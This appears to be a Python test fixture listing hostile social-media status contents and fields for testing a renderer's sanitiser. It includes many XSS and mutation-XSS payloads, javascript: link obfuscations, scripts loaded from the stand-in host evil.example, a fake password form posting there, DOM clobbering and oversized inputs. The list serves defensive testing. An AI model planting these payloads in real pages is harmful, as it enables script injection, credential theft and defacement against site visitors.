"""Statuses that somebody may send to harm a page: what each has in the place of a usual field.

Those that would run something call `ran`; those that would ask another host ask evil.example.
"""

# What of a text is left.
ALLOWED = {"p", "br", "a", "em", "strong", "b", "i", "code", "pre", "ul", "ol", "li", "blockquote"}
RUN = "top.ran = 1"
EVIL = "https://evil.example"
NEWLINE = "\n"
MARKS = "\u0300\u0338\u0489"  # to be stacked on a letter
CONTENTS = {
    # Scripts and handlers.
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "module": f"<script type=module>import '{EVIL}/x.js'</script>",
    "handler of a picture": f"<img src=x onerror='{RUN}'>",
    "handler without spaces": f"<img/src=x/onerror={RUN.replace(' ', '')}>",
    "picture from elsewhere": f"<img src='{EVIL}/x.png' srcset='{EVIL}/y.png 2x'>",
    "picture in a picture": f"<picture><source srcset='{EVIL}/x.webp'><img></picture>",
    "handler of a body": f"<body onload='{RUN}' onpageshow='{RUN}'>",
    "handler of a toggle": f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    "handler of a focus": f"<input autofocus onfocus='{RUN}'>",
    "handler of an animation": f"<p style='animation: x 1s' onanimationstart='{RUN}'>x</p>",
    "handler of what is allowed": f"<p onclick='{RUN}' onpointerenter='{RUN}' tabindex=0>x</p>",
    "marquee": f"<marquee onstart='{RUN}' loop=1>x</marquee>",
    "video": f"<video autoplay src='{EVIL}/x.mp4' onloadstart='{RUN}' poster='{EVIL}/x.png'></video>",
    "audio": f"<audio autoplay src='{EVIL}/x.mp3' onerror='{RUN}'></audio>",
    # Links that are none.
    "javascript": f"<a href='javascript:{RUN}'>x</a>",
    "javascript in capitals": f"<a href='  JaVaScRiPt:{RUN}'>x</a>",
    "javascript with a tab": f"<a href='java\tscript:{RUN}'>x</a>",
    "javascript in entities": f"<a href='&#106;avascript&colon;{RUN}'>x</a>",
    "javascript after a control character": f"<a href='\x01javascript:{RUN}'>x</a>",
    "data": f"<a href='data:text/html,<script>opener.{RUN}</script>'>x</a>",
    "other schemes": "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='blob:x'>x</a>"
    "<a href='mailto:x@evil.example'>x</a><a href='ftp://evil.example'>x</a>",
    "relative": "<a href='/404.html'>x</a><a href='//evil.example/'>x</a><a href='#comments'>x</a>"
    "<a href='http:evil.example'>x</a>",
    "a link with more on it": f"<a href='{EVIL}/' target=_top ping='{EVIL}/p' download=x rel=opener id=comments "
    f"class=headerlink style='position:fixed;inset:0' onclick='{RUN}'>x</a>",
    # Forms, frames, what changes the page.
    "form": f"<form action='{EVIL}/' id=f><input name=password type=password><button>Log in</button></form>",
    "button of a form elsewhere": f"<button form=f formaction='javascript:{RUN}'>x</button>",
    "frame": f"<iframe src='{EVIL}/'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data='{EVIL}/x'></object><embed src='{EVIL}/x'>",
    "base": f"<base href='{EVIL}/'><a href='x'>x</a>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "link": f"<link rel=stylesheet href='{EVIL}/x.css'><link rel=prefetch href='{EVIL}/'>",
    "names of the page's own": "<a id=post name=post></a><form name=getElementById></form><img name=body>",
    "names of what a form or a document is asked for": "<form><input name=childNodes><input name=nodeType></form>"
    "<form name=body></form><form name=body></form><img name=documentElement><img name=childNodes>",
    "popover": "<div popover id=p>x</div><button popovertarget=p>x</button><dialog open>x</dialog>",
    "shadow": f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    # Styles.
    "style": "<style>* { display: none !important }</style>",
    "style from elsewhere": f"<style>@import '{EVIL}/x.css'; p {{ background: url({EVIL}/x.png) }}</style>",
    "over all": "<p style='position:fixed;inset:0;z-index:9999;background:red;font-size:99px'>x</p>",
    "elements that do nothing": "<del>x</del><div>x</div><font color=red>x</font><h1>x</h1><q>x</q><s>x</s>"
    "<span>x</span><sub>x</sub><sup>x</sup><table><td>x</table><u>x</u><x-y>x</x-y>",
    "classes of the page's own": "<p class='mobile-header sidebar-drawer' id=__navigation hidden>x</p>",
    # SVG and MathML.
    "svg": f"<svg onload='{RUN}'><script>{RUN}</script><image href='{EVIL}/x.png'/></svg>",
    "link in svg": f"<svg><a xlink:href='javascript:{RUN}' href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    "animation in svg": f"<svg><a><animate attributeName=href to='javascript:{RUN}'/><text>x</text></a></svg>",
    "page in svg": f"<svg><foreignObject><p style='position:fixed' onclick='{RUN}'>x</p></foreignObject></svg>",
    "use": f"<svg><use href='{EVIL}/x.svg#x'/></svg>",
    "mathml": f"<math href='javascript:{RUN}'><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    # What another parser reads in another way.
    "mutation by mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN.replace(' ', '')}&gt;'>",
    "mutation by style in svg": f"<svg></p><style><a id='</style><img src=1 onerror={RUN.replace(' ', '')}>'>",
    "mutation by noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN.replace(' ', '')}>'>",
    "mutation by forms": "<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={RUN.replace(' ', '')}>",
    "mutation by comments": f"<!--><img src=x onerror={RUN.replace(' ', '')}>--><![CDATA[<img onerror={RUN}>]]>",
    "mutation by select": f"<select><template><style></select><img src=x onerror={RUN.replace(' ', '')}>",
    "an end of ours": f"</div></details></article></ol></section><h1 id=top>Mine</h1><script>{RUN}</script>",
    # Letters.
    "control characters": "<p>a\0b\x07c\x1b[2Jd\u2028e\ufeff</p>",
    "right to left": "<p>\u202egnihton\u2066 \u2067</p><p>שלום world مرحبا</p>",
    "marks": f"<p>{'Z' + MARKS * 200}{'a' + MARKS * 200}</p>",
    "one long word": f"<p>{'W' * 1500}</p><pre>{'x' * 400}</pre>",
    "one long link": f"<p><a href='{EVIL}/{'x' * 1800}'>{EVIL}/{'x' * 1800}</a></p>",
    "wide letters": "<p>" + "\ufdfd\U0001242b" * 60 + "</p>",
    "lines of nothing": f"<pre>{NEWLINE * 1900}</pre>",
    "links of nothing": f"<p>{f'<a href={EVIL}></a>' * 1900}</p>",
    # Huge ones.
    "more than 100,000 characters": "<em></em>" * 20_000,
    "20,000 characters": f"<p>{'Too much. ' * 2000}</p>",
    "lines": "<br>" * 20_000,
    "empty paragraphs": "<p></p>" * 20_000,
    "deep": "<div><b>" * 2000 + "x",  # of which a browser nests 512
    "deep quotes": "<blockquote>" * 300 + "x",
    "deep lists": "<ul><li>" * 200 + "x",
}
FIELDS = {
    "name with markup": {"display_name": f"<img src=x onerror='{RUN}'><b>Eve</b>"},
    "name in another direction": {"display_name": "\u202eevE \u2067"},
    "name of marks": {"display_name": "E" + MARKS * 30},
    "huge name": {"display_name": "E" * 10_000, "acct": f"{'e' * 9000}@{'x' * 900}.example"},
    "name of nothing": {"display_name": " \u3000 ", "username": "eve"},
    "no names": {"display_name": None, "acct": None, "username": 7},
    "avatar": {"avatar": f"{EVIL}/x.png", "avatar_static": f"{EVIL}/x.png", "display_name": ":evil:",
               "emojis": [{"shortcode": "evil", "url": f"{EVIL}/x.png", "static_url": f"{EVIL}/x.png"}]},
    "address of javascript": {"url": f"javascript:{RUN}"},
    "no address": {"url": None},
    "address of a number": {"url": 7},
    "warning with markup": {"spoiler_text": f"<img src=x onerror='{RUN}'></summary>"},
    "huge warning": {"spoiler_text": "W" * 20_000},
    "no text where text is": {"url": {"toString": 1}, "edited_at": {"toString": 1, "valueOf": 1}, "spoiler_text": {"trim": 1}},
    "warning of nothing": {"spoiler_text": " \u3000 "},
    "no date": {"created_at": "yesterday"},
    "date of a list": {"created_at": [2026]},
    "language with markup": {"language": f"'><script>{RUN}</script>"},
    "content of a number": {"content": 7},
    "content of nothing": {"content": None},
    "content of frames": {"content": "<frameset><frame>Framed.</frameset>"},
    "pictures": {"media_attachments": [{"type": "image", "url": f"{EVIL}/x.png", "preview_url": f"{EVIL}/y.png"}]},
    "pictures that are no list": {"media_attachments": "many"},
    "count of replies": {"replies_count": "many"},
    "reply to itself": {"in_reply_to_id": "self"},
    "reply to what is not there": {"in_reply_to_id": "999"},
    "prototype": {"in_reply_to_id": "__proto__", "visibility": "public"},
}  # fmt: skip
# What is no status at all, there already, or not for everybody: nothing of it is seen.
UNSEEN = (
    None,
    7,
    "status",
    [],
    {},
    {"id": 7, "visibility": "public", "account": {}, "content": "<p>unseen</p>"},
    {"id": "1000", "visibility": "public", "account": None, "content": "<p>unseen</p>"},
    {"id": "1", "visibility": "public", "account": {}, "content": "<p>unseen</p>"},
    *(
        {"id": str(1001 + i), "visibility": kind, "account": {}, "content": "<p>unseen</p>"}
        for i, kind in enumerate(("private", "direct", "limited", None, "Public", ["public"]))
    ),
)
